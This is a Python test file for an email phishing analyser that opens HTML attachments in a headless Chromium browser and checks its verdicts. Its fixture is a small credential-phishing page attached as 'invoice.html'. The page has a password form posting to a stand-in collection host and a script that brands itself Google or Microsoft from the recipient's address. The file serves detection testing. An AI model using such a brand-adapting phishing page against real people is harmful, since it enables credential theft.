"""Kept pages opened as several people, wired together."""

import base64
from email.message import EmailMessage
from pathlib import Path

import pytest

from unhook import app
from unhook.links import url
from unhook.links.model import Url
from unhook.message.model import Attachment
from unhook.pages.browser import availability
from unhook.pages.browser.failure import BrowserError
from unhook.pages.probe import probe as probing

RECIPIENT = "anna.berg@harbour.example"
ADAPTS = (
    "<title>Sign in</title><form method=post action=https://collect.example.net/p>"
    "<input type=password name=p></form>"
    "<script>const d=atob('{}').split('@')[1];document.title='Sign in to '+({{'gmail.com':'Google',"
    "'outlook.com':'Microsoft'}}[d]||'Webmail')</script>"
)


def mail() -> bytes:
    message = EmailMessage()
    message["From"], message["To"] = "a@florist.test", RECIPIENT
    message.set_content("See the page.")
    page = ADAPTS.format(base64.b64encode(RECIPIENT.encode()).decode())
    message.add_attachment(page.encode(), "text", "html", filename="invoice.html")
    return message.as_bytes()


@pytest.mark.chromium
def test_a_page_in_a_mail_is_opened_as_others_than_its_recipient() -> None:
    if availability.chromium() is None:
        pytest.skip("needs Debian's chromium")
    (looked,) = app.open_pages(app.look("mail.eml", raw=mail()), seed=1)
    assert looked.probe is not None
    assert looked.verdict == "malicious"
    assert {"Google", "Microsoft"} <= {brand.name for brand in looked.probe.brands}


def test_where_no_page_can_be_opened_the_source_still_tells(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(availability, "refusal", lambda: "no namespaces")
    (looked,) = app.open_pages(app.look("mail.eml", raw=mail()))
    assert (looked.probe, looked.unopened) == (None, "no namespaces")
    assert looked.verdict == looked.page.verdict


def test_a_browser_that_refuses_later_is_told_too(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuses(*_: object, **__: object) -> None:
        raise BrowserError("refused", "gone")

    monkeypatch.setattr(availability, "refusal", lambda: "")
    monkeypatch.setattr(probing, "probe", refuses)
    (looked,) = app.open_pages(app.look("mail.eml", raw=mail()))
    assert looked.unopened == "refused: gone"


def test_a_page_that_was_not_kept_is_not_opened(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(availability, "refusal", lambda: "")
    (looked,) = app.open_pages(app.look("page.html", raw=b""))
    assert looked.unopened == "no page was kept"


@pytest.mark.chromium
def test_rules_see_what_was_seen(tmp_path: Path) -> None:
    if availability.chromium() is None:
        pytest.skip("needs Debian's chromium")
    path = tmp_path / "page.html"
    page = ADAPTS.format(base64.b64encode(b"x").decode()).replace("atob('eA==')", "location.hash")
    path.write_text("<!-- saved from url=(0026)https://files.example.net/a -->" + page)
    read, opened = (app.page_reports([str(path)], opened=each) for each in (False, True))
    (address,) = opened
    before, after = read.link_analysis(_link(address)), opened.link_analysis(_link(address))
    assert isinstance(before, dict)
    assert isinstance(after, dict)
    assert before["credphish"]["disposition"] != "phishing"
    assert after["credphish"]["disposition"] == "phishing"
    assert isinstance(after["screenshot"], Attachment)
    assert after["screenshot"].raw.startswith(b"\x89PNG")


def _link(address: str) -> Url:
    parsed = url.parse(address)
    assert parsed is not None
    return parsed
